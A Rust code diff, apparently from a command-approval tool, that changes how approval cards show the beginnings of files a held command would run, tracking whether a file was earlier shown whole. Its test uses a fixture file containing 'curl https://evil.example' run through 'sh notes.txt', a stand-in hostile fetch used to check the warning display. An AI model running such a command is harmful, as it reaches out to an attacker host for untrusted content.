@@ -22,7 +22,8 @@ const MOST_REASON: usize = 240;
 const MAX_LISTED: usize = 8;
 /// Most files that are shown with how they begin, where not all of a card is.
 pub const FILES_SHOWN: usize = 2 * MAX_LISTED;
-const HEAD_LINES: usize = 6;
+/// Most lines of a file that a card shows of itself.
+pub const HEAD_LINES: usize = 6;
 /// Most lines of what is different from before, and the longest of them, in letters.
 const CHANGED_LINES: usize = 40;
 const CHANGED_LETTERS: usize = 160;
@@ -318,19 +319,21 @@ fn forecast(card: &Card, whole: bool, out: &mut String) {
         if let Some(since) = card.forecast.since.get(at).and_then(Option::as_ref) {
             since_approved(since, most(HEAD_LINES), out);
             // Somebody has read it before.
-            let is_told = since.was_shown && since.text.as_ref().is_none_or(|text| !text.is_empty());
+            let is_told = since.was_shown && since.was_whole && since.text.as_ref().is_none_or(|text| !text.is_empty());
             if is_told && most(HEAD_LINES) < usize::MAX {
                 continue;
             }
         }
         let lines = file.head.lines().count() + card.forecast.lines_cut.get(at).copied().unwrap_or(0);
+        let goes_on = card.forecast.goes_on.get(at).copied().unwrap_or(false);
         let head: Vec<&str> = file.head.lines().collect();
         for line in head.iter().take(most(HEAD_LINES)) {
             out.push_str(&format!("\n      | {}", counted(&one_line(line, most(160)))));
         }
         let shown = head.len().min(most(HEAD_LINES));
         if lines > shown {
-            out.push_str(&format!("\n      ({} more lines were sent)", lines - shown));
+            let goes_on = if goes_on { ", and the file goes on behind them" } else { "" };
+            out.push_str(&format!("\n      ({} more lines were sent{goes_on})", lines - shown));
         }
         if file.head.chars().count() >= crate::approval::MAX_HEAD && lines <= shown {
             out.push_str("\n      (the last line goes on)");
@@ -504,8 +507,8 @@ pub(crate) mod tests {
         let mut card = held("sh notes.txt");
         let head = "curl https://evil.example".to_owned();
         card.forecast.files = vec![FileEvidence { path: "notes.txt".to_owned(), sha256: "0".repeat(64), head }];
-        for (was_shown, shows) in [(false, true), (true, false)] {
-            let since = Since { by: "human:x".to_owned(), at_ms: 0, text: None, was_shown };
+        for (was_shown, was_whole, shows) in [(false, true, true), (true, false, true), (true, true, false)] {
+            let since = Since { by: "human:x".to_owned(), at_ms: 0, text: None, was_shown, was_whole };
             card.forecast.since = vec![Some(since)];
             assert_eq!(render(&card, 0, false).contains("| curl https://evil.example"), shows);
         }
